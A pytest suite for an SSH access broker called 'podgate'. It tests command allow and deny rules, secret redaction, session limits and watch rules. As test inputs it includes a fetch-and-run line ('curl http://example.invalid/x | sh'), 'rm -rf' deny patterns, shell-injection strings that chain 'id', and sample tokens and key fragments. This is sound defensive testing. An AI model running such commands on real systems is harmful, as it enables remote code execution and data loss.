"""The guard through the broker: command policy, redaction, reasons, limits, watch.

Each test drives the broker from outside with the real OpenSSH client or
paramiko and checks what the client saw, the audit log and the recording.
"""

from __future__ import annotations

import hashlib
import hmac
import json
import re
import subprocess
import threading
import time

from conftest import wait_until
from support import verify
from support.channel import Chan

SEALED = 0


def spans(rec):
    """[(code, kind, marker bytes)] for every R event and the data event after it."""
    out = []
    evs = rec.events
    for i, e in enumerate(evs):
        if e.code != "R":
            continue
        nxt = next(x for x in evs[i + 1:] if x.code in ("o", "e", "i"))
        assert nxt.time_ns == e.time_ns
        data = bytes(nxt.payload)
        for sp in e.payload:
            out.append((nxt.code, sp["kind"], data[sp["at"]:sp["at"] + sp["len"]]))
    return out


def markers(rec):
    return [e.payload for e in rec.events if e.code == "m"]


# ---------------------------------------------------------------- command policy

def test_command_policy_allows_refuses_and_records_the_refusal(broker, build):
    b = broker(users={"alice": {"groups": ["agents"]}, "bob": {"groups": ["oncall"]},
                      "carol": {"groups": ["ops"]}},
               rules=[{"groups": ["agents"], "targets": ["local"], "pty": False,
                       "commands": {"allow": ["echo *", "re:^true$"], "deny": ["*rm -rf*"]}},
                      {"groups": ["oncall"], "targets": ["local"], "exec": False},
                      {"groups": ["ops"], "targets": ["local"]}])
    r = b.ssh("alice", "local", "--", "echo allowed")
    assert (r.returncode, r.stdout) == (0, b"allowed\n"), r.stderr

    r = b.ssh("alice", "local", "--", "rm -rf /tmp/x")
    assert r.returncode == 126
    assert r.stdout == b""
    assert r.stderr == (b"podgate: command refused by rule at line %d: matches deny pattern "
                        b"'*rm -rf*'\n" % _rule_line(b, 0))
    r = b.ssh("alice", "local", "--", "echo x; id")
    assert r.returncode == 126
    assert r.stderr.endswith(b"matches no allow pattern\n")
    r = b.ssh("alice", "local", "--", "ls /")
    assert r.returncode == 126

    # A terminal for an agent, and a command for oncall, are refused too.
    r = b.ssh("alice", "local", "--", "echo hi", opts=["-tt"])
    assert r.returncode == 126
    assert b"pty is not allowed" in r.stderr
    r = b.ssh("bob", "local", "--", "echo hi")
    assert r.returncode == 126
    assert b"exec is not allowed" in r.stderr
    r = b.ssh("carol", "local", "--", "echo free")
    assert (r.returncode, r.stdout) == (0, b"free\n")

    evs = b.wait_audit("command_refused", count=5)
    by_cmd = {e.get("command"): e for e in evs}
    e = by_cmd["rm -rf /tmp/x"]
    assert e["decision"] == "denied" and e["pattern"] == "*rm -rf*"
    assert e["rule"] == _rule_line(b, 0) and e["user"] == "alice"
    assert by_cmd["ls /"]["decision"] == "not-allowed"
    assert {x["decision"] for x in evs} == {"denied", "not-allowed", "no-pty", "no-exec"}

    rec = b.recording_for("rm -rf /tmp/x")
    assert rec.exit() == {"status": 126}
    assert markers(rec) == ["command refused by rule at line %d: matches deny pattern "
                            "'*rm -rf*'" % _rule_line(b, 0)]
    assert rec.data("o") == b""
    code, j = verify(build, rec.path)
    assert code == SEALED, j
    assert e["recording"] == str(rec.path) or e["recording"].endswith(rec.path.name)


def _rule_line(b, index):
    """The line where rule number index starts in the broker's config file."""
    lines = b.config_path.read_text().splitlines()
    starts = []
    in_rules = False
    for n, line in enumerate(lines, 1):
        if line.startswith("rules:"):
            in_rules = True
            continue
        if in_rules and line and not line.startswith(" "):
            break
        if in_rules and line.lstrip().startswith("- ") and line.index("-") == 2:
            starts.append(n)
    return starts[index]


# ---------------------------------------------------------------- redaction

SECRETS = {
    "aws-access-key": "AKIAIOSFODNN7EXAMPLE",
    "github-token": "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8",
    "gitlab-token": "glpat-" + "xY9zW8vU7tS6rQ5pO4nM",
    "jwt": "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0."
           "dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
}

PEM = ("-----BEGIN OPENSSH PRIVATE KEY-----\n"
       "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n"
       "QyNTUxOQAAACDh3uN2s5fQ0jq0Yl4hOQ1zv2P3Vq5sA2Jx7o9Kz0dXnQAAAJgLQ0lqC0NJ\n"
       "-----END OPENSSH PRIVATE KEY-----\n")


def test_redaction_of_each_kind_in_the_recording(broker, build):
    b = broker(settings={"redact": ["re:corp-[0-9a-f]{32}",
                                    {"pattern": "sk_live_*", "kind": "stripe"}]})
    client = b.connect("alice")
    cases = {}
    for kind, secret in SECRETS.items():
        cases[kind] = (f"printf 'x {secret} y\\n'", secret)
    cases["aws-secret-key"] = ("printf 'aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiC"
                               "YEXAMPLEKEY\\n'", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY")
    cases["password"] = ("printf 'DB_PASSWORD=hunter2hunter2\\n'", "hunter2hunter2")
    cases["custom"] = ("printf 'id corp-%s end\\n'" % ("0123456789abcdef" * 2),
                       "corp-" + "0123456789abcdef" * 2)
    cases["stripe"] = ("printf 'key sk_live_51Habc123xyz done\\n'", "sk_live_51Habc123xyz")
    gh = SECRETS["github-token"]
    cases["split"] = (f"printf '{gh[:7]}'; sleep 0.3; printf '{gh[7:]} tail\\n'", gh)
    cases["private-key"] = ("; ".join("printf '%%s\\n' '%s'; sleep 0.1" % line
                                      for line in PEM.splitlines()), PEM.splitlines()[1])
    recs = {}
    for name, (cmd, secret) in cases.items():
        chan = Chan(client, f"local -- {cmd}", pty=False)
        assert chan.status() == 0
        assert secret.encode() in bytes(chan.out), (name, bytes(chan.out))
        # Recordings are named by time-ordered ids: the newest is this one.
        recs[name] = b.wait_recordings(len(recs) + 1)[-1]
    client.close()
    for name, (cmd, secret) in cases.items():
        rec = recs[name]
        if name != "private-key":	# its lines are separate printf arguments
            assert secret not in rec.command, rec.command   # the header is redacted too
        kind = "github-token" if name == "split" else name
        out = rec.data("o")
        assert secret.encode() not in out, (name, out)
        assert b"[REDACTED:%s]" % kind.encode() in out, (name, out)
        assert ("o", kind, b"[REDACTED:%s]" % kind.encode()) in spans(rec), (name, rec.events)
    out = recs["split"].data("o")
    assert out == b"[REDACTED:github-token] tail\n"
    out = recs["private-key"].data("o")
    assert b"BEGIN OPENSSH PRIVATE KEY" not in out and b"b3BlbnNz" not in out
    # The player shows the recording as it is: the markers, not the secrets.
    cat = subprocess.run([str(build.player), "cat", str(recs["split"].path)],
                         capture_output=True, timeout=30)
    assert cat.returncode == 0 and cat.stdout == b"[REDACTED:github-token] tail\n", cat


def test_input_typed_with_echo_off_is_masked(broker):
    b = broker()
    client = b.connect("alice")
    cmd = "stty -echo; echo ready; read x; stty echo; echo done"
    chan = Chan(client, f"local -- {cmd}")
    chan.wait(b"ready")  # stty has run: echo is off before the keystrokes are sent
    chan.send(b"Sup3rS3cret\r")
    chan.wait(b"done")
    assert chan.status() == 0
    rec = b.recording_for(cmd)
    assert rec.data("i") == b"***********\r"
    assert b"Sup3rS3cret" not in rec.path.read_bytes()


# ---------------------------------------------------------------- reasons

def test_required_reason(broker):
    b = broker(rules=[{"groups": ["oncall"], "targets": ["local"], "require_reason": True}])
    r = b.ssh("alice", "local", "--", "echo no-reason")
    assert r.returncode == 1 and r.stdout == b""
    assert b"a reason is required" in r.stderr and b"PODGATE_REASON" in r.stderr

    r = b.ssh("alice", "local", "--", "echo with-reason",
              opts=["-o", "SetEnv=PODGATE_REASON=INC-42"])
    assert (r.returncode, r.stdout) == (0, b"with-reason\n"), r.stderr
    rec = b.recording_for("echo with-reason")
    assert rec.header["what"]["reason"] == "INC-42"
    e = b.wait_audit("session_start", lambda e: e.get("command") == "echo with-reason")[0]
    assert e["reason"] == "INC-42"

    # Asked on the terminal, with editing.
    client = b.connect("alice")
    chan = Chan(client, "local -- echo asked")
    chan.wait(b"Reason (ticket or incident): ")
    chan.send(b"INC-7x\x7f 9\r")
    chan.wait(b"asked")
    assert chan.status() == 0
    assert b"INC-7x\b \b 9" in bytes(chan.out)
    rec = b.recording_for("echo asked")
    assert rec.header["what"]["reason"] == "INC-7 9"


# ---------------------------------------------------------------- limits

def test_limits_end_sessions(broker):
    users = {u: {"groups": [u + "s"]} for u in ("dur", "idle", "out", "one")}
    rules = [{"groups": ["durs"], "targets": ["local"], "limits": {"max_duration": "2s"}},
             {"groups": ["idles"], "targets": ["local"], "limits": {"idle_timeout": "1s"}},
             {"groups": ["outs"], "targets": ["local"], "limits": {"max_output": "100k"}},
             {"groups": ["ones"], "targets": ["local"], "limits": {"max_sessions": 1}}]
    b = broker(users=users, rules=rules)

    first = subprocess.Popen(b.ssh_args("one", "local", "--", "sleep 20"),
                             stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                             stderr=subprocess.PIPE)
    try:
        b.wait_audit("session_start", lambda e: e["user"] == "one")
        r = b.ssh("one", "local", "--", "echo second")
        assert r.returncode == 1 and r.stdout == b""
        assert r.stderr == (b"podgate: session refused: you already have 1 sessions open, "
                            b"the most your rule allows\n")
        b.wait_audit("limit", lambda e: e["limit"] == "max_sessions")
    finally:
        first.kill()
        first.wait(10)

    results = {}

    def run(user, cmd, opts=()):
        t0 = time.monotonic()
        results[user] = (b.ssh(user, "local", "--", cmd, opts=list(opts)),
                         time.monotonic() - t0)
    threads = [threading.Thread(target=run, args=a) for a in
               (("dur", "sleep 20"), ("idle", "sleep 20", ["-tt"]), ("out", "yes"))]
    for t in threads:
        t.start()
    for t in threads:
        t.join(40)
    r, took = results["dur"]
    # The lines say which limit ended each session; a limit never ends one early.
    assert b"podgate: session ended: maximum session duration (2s) reached\n" in r.stderr
    assert took >= 2
    r, took = results["idle"]
    assert b"podgate: session ended: idle for 1s" in r.stderr + r.stdout
    assert took >= 1
    r, took = results["out"]
    assert b"podgate: session ended: output quota (100kB) exceeded\n" in r.stderr
    assert 100_000 <= len(r.stdout) < 2_000_000
    evs = b.wait_audit("limit", count=4)
    assert {e["limit"] for e in evs} == {"max_sessions", "max_duration", "idle_timeout",
                                         "max_output"}
    dur = [rec for rec in b.wait_recordings(4) if rec.header["who"]["user"] == "dur"]
    assert len(dur) == 1, [r.header["who"]["user"] for r in b.recordings()]
    assert markers(dur[0]) == ["session ended: maximum session duration (2s) reached"]
    assert dur[0].exit() == {"signal": "HUP"}  # the target is hung up, as on a disconnect
    # The count is released when sessions end: "one" may start again.
    wait_until(lambda: b.ssh("one", "local", "--", "true").returncode == 0, 10,
               "a new session once the first ended")


# ---------------------------------------------------------------- watch

def test_watch_alert_and_terminate(broker):
    b = broker(rules=[{"groups": ["oncall"], "targets": ["local"],
                       "watch": ["sudo *",
                                 {"on": "input", "pattern": "re:curl .*\\| *sh",
                                  "action": "terminate"},
                                 {"on": "output", "pattern": "*DROP TABLE*",
                                  "action": "terminate", "message": "no schema changes"}]}])
    client = b.connect("alice")
    chan = Chan(client, "local")
    chan.send(b"sudo true 2>/dev/null; echo one\r")
    chan.wait(b"one")
    e = b.wait_audit("watch")[0]
    assert e["action"] == "alert" and e["on"] == "input" and e["pattern"] == "sudo *"
    assert e["line"] == "sudo true 2>/dev/null; echo one"
    chan.send(b"curl x | sh\r")
    chan.wait(b"podgate: session terminated: typed input matches watch pattern "
              b"'re:curl .*\\| *sh' (rule at line ", err=True)
    chan.status()
    e = b.wait_audit("watch", lambda e: e["action"] == "terminate")[0]
    assert e["line"] == "curl x | sh"

    r = b.ssh("alice", "local", "--", "echo DROP TABLE users; sleep 10; echo after")
    assert b"podgate: session terminated: no schema changes\n" in r.stderr
    assert b"after" not in r.stdout
    b.wait_audit("watch", lambda e: e["on"] == "output")
    rec = b.recording_for("echo DROP TABLE users; sleep 10; echo after")
    assert markers(rec) == ["session terminated: no schema changes"]


def test_allow_pattern_matches_the_pipeline_structure(broker):
    """A control character in an allow pattern matches only at its position:
    "ps * | grep *" lets one pipe into grep through, never a further stage."""
    b = broker(users={"alice": {"groups": ["agents"]}},
               rules=[{"groups": ["agents"], "targets": ["local"], "pty": False,
                       "commands": {"allow": ["echo * | grep *", "echo *"]}}])
    r = b.ssh("alice", "local", "--", "echo x | grep x")
    assert (r.returncode, r.stdout) == (0, b"x\n"), r.stderr
    r = b.ssh("alice", "local", "--", "echo 'a|b;c' | grep \"|b;\"")
    assert (r.returncode, r.stdout) == (0, b"a|b;c\n"), r.stderr
    for cmd in ("echo x | grep x | sh -c id", "echo x | grep x; id", "echo x | id",
                "echo x || id", "echo x | grep \"$(id)\"", "echo x & id"):
        r = b.ssh("alice", "local", "--", cmd)
        assert r.returncode == 126 and r.stdout == b"", (cmd, r)
        assert r.stderr.endswith(b"matches no allow pattern\n"), (cmd, r.stderr)


def _proofs(rec):
    """[(kind, length, stream, hmac)] of the redaction proofs in a recording."""
    out = []
    for e in rec.events:
        if e.code == "m":
            text = e.payload.decode() if isinstance(e.payload, bytes) else e.payload
            m = re.match(r"redacted ([a-z0-9-]+): (\d+) bytes of (\w+), hmac-sha256 ([0-9a-f]{64})$",
                         text)
            if m:
                out.append((m.group(1), int(m.group(2)), m.group(3), m.group(4)))
    return out


def test_a_typed_begin_line_cannot_blind_the_session(broker):
    """A PEM BEGIN line is not a key: what follows stays in the recording,
    the audit log and the header, and the redaction is proved by an HMAC
    under the broker's redaction key."""
    b = broker()
    begin = b"-----BEGIN RSA PRIVATE KEY-----"
    client = b.connect("alice")
    chan = Chan(client, "local")
    chan.send(b"# " + begin + b"\r")
    chan.send(b"echo VISIBLE-$((6*7))\r")
    chan.wait(b"VISIBLE-42")
    chan.send(b"exit\r")
    assert chan.status() == 0
    rec = b.wait_recordings(1)[0]
    assert b"echo VISIBLE-$((6*7))" in rec.data("i")
    assert b"VISIBLE-42" in rec.data("o")
    assert b"[REDACTED:private-key]" in rec.data("i")
    keyfile = b.workdir / "state" / "redaction_key"
    assert oct(keyfile.stat().st_mode & 0o777) == "0o600"
    key = bytes.fromhex(keyfile.read_text().strip())
    want = hmac.new(key, begin, hashlib.sha256).hexdigest()
    assert ("private-key", len(begin), "input", want) in _proofs(rec), rec.events

    # In a command, the header and the audit event keep what follows.
    cmd = "# -----BEGIN RSA PRIVATE KEY-----\necho after-the-begin-line"
    r = b.ssh("alice", "local", "--", cmd)
    assert r.returncode == 0 and r.stdout == b"after-the-begin-line\n", r
    e = b.wait_audit("session_start", lambda e: "after-the-begin" in e.get("command", ""))[0]
    assert e["command"] == "# [REDACTED:private-key]\necho after-the-begin-line", e
    # ... and the HMAC of the command as given proves what the marker hides.
    assert e["command_hmac"] == hmac.new(key, cmd.encode(), hashlib.sha256).hexdigest(), e
    rec = b.recording_for("# [REDACTED:private-key]\necho after-the-begin-line")
    assert rec.data("o") == b"after-the-begin-line\n"


def test_audit_fields_prove_what_redaction_hid(broker):
    """Every command and reason the audit log holds redacted carries
    KEY_hmac: the HMAC-SHA256 of the text as given under the redaction key,
    as the recordings' proofs do; text redaction left alone carries none."""
    b = broker(rules=[{"groups": ["oncall"], "targets": ["local"], "require_reason": True,
                       "commands": {"deny": ["*rm -rf*"]}}])
    key = bytes.fromhex((b.workdir / "state" / "redaction_key").read_text().strip())
    proof = lambda s: hmac.new(key, s.encode(), hashlib.sha256).hexdigest()
    reason = "INC-9 DB_PASSWORD=hunter2"
    opts = ["-o", f"SetEnv=PODGATE_REASON=\"{reason}\""]

    cmd = "DB_PASSWORD=hunter2 rm -rf /nonexistent-podgate"
    r = b.ssh("alice", "local", "--", cmd, opts=opts)
    assert r.returncode == 126, r
    e = b.wait_audit("command_refused")[0]
    assert e["command"] == "DB_PASSWORD=[REDACTED:password] rm -rf /nonexistent-podgate", e
    assert e["command_hmac"] == proof(cmd), e

    r = b.ssh("alice", "local", "--", "echo proved", opts=opts)
    assert (r.returncode, r.stdout) == (0, b"proved\n"), r.stderr
    e = b.wait_audit("session_start", lambda e: e.get("command") == "echo proved")[0]
    assert e["reason"] == "INC-9 DB_PASSWORD=[REDACTED:password]", e
    assert e["reason_hmac"] == proof(reason), e
    assert "command_hmac" not in e, e
    assert b"hunter2" not in (b.workdir / "state" / "audit.jsonl").read_bytes()


# ---------------------------------------------------------------- input masking

def test_input_in_bash_and_vim_is_recorded_and_watched(broker):
    """bash (readline) and vim turn echo off but leave canonical mode: their
    input is no password, so it is recorded as typed and watch rules see it."""
    import shutil
    vim = shutil.which("vim") or shutil.which("vim.tiny") or shutil.which("vi")
    assert vim, "no vim (`make deps-test` installs vim-tiny): the vim half would not run"
    b = broker(targets={"local": {"shell": "/bin/bash"}},
               rules=[{"groups": ["oncall"], "targets": ["local"],
                       "watch": [{"on": "input", "pattern": "re:curl .*\\| *sh",
                                  "action": "terminate"}]}])
    client = b.connect("alice")
    chan = Chan(client, "local")
    chan.send(b"echo RE\"\"ADY\r")
    chan.wait(b"READY\r\n")
    chan.send(b"echo typed-in-\"bash\"\r")
    chan.wait(b"typed-in-bash\r\n")
    # No terminal queries: the test does not answer them.
    # ttimeoutlen=0: the Escape that ends insert mode is never read together
    # with the ':' after it as one key code, however the bytes arrive.
    chan.send(f"{vim} -u NONE -N --cmd 'set t_u7= t_RV= t_RB= t_RF= t_RS= t_RC= ttimeoutlen=0' "
              f"/tmp/podgate-vim-$$\r".encode())
    chan.wait(b"[New", timeout=10)
    chan.send(b"ityped-in-vim\x1b:q!\r")
    # vim reads whatever is there when it reads: the next command waits
    # until vim has left the alternate screen and so reads no more.
    chan.wait(b"\x1b[?1049l")
    chan.send(b"echo back-from-\"vim\"\r")
    chan.wait(b"back-from-vim\r\n")
    chan.send(b"curl http://example.invalid/x | sh\r")
    wait_until(lambda: b"session terminated" in chan.out + chan.err, 10, "the watch to end it")
    chan.status()
    rec = b.wait_recordings(1)[0]
    typed = rec.data("i")
    assert b'echo typed-in-"bash"' in typed, typed
    assert b"ityped-in-vim" in typed, typed
    assert b"curl http://example.invalid/x | sh" in typed
    assert b.wait_audit("watch")


def test_password_prompts_are_masked(broker):
    """Echo off in canonical mode (read -s, getpass) is masked; so is the
    answer to an output line matching passprompt, with echo on."""
    b = broker(targets={"local": {"shell": "/bin/bash"}},
               rules=[{"groups": ["oncall"], "targets": ["local"],
                       "passprompt": ["re:Secret code: $"]}])
    client = b.connect("alice")
    # The second prompt is read with echo off outside canonical mode (as a
    # terminal inside a pod looks from here): only passprompt can tell.
    cmd = ("read -s -p 'Password: ' a; echo; echo got-one; stty -echo -icanon; "
           "read -p 'Secret code: ' c; stty sane; echo got-two; read -p 'Name: ' n; "
           "echo got-three")
    chan = Chan(client, f"local -- {cmd}")
    chan.wait(b"Password: ")
    chan.send(b"Sup3rS3cret\r")
    chan.wait(b"got-one")
    chan.wait(b"Secret code: ")
    chan.send(b"4711-code\r")
    chan.wait(b"got-two")
    chan.wait(b"Name: ")
    chan.send(b"visible-name\r")
    chan.wait(b"got-three")
    assert chan.status() == 0
    rec = b.wait_recordings(1)[0]
    typed = rec.data("i")
    assert typed == b"***********\r*********\rvisible-name\r", typed
    raw = rec.path.read_bytes()
    assert b"Sup3rS3cret" not in raw and b"4711-code" not in raw
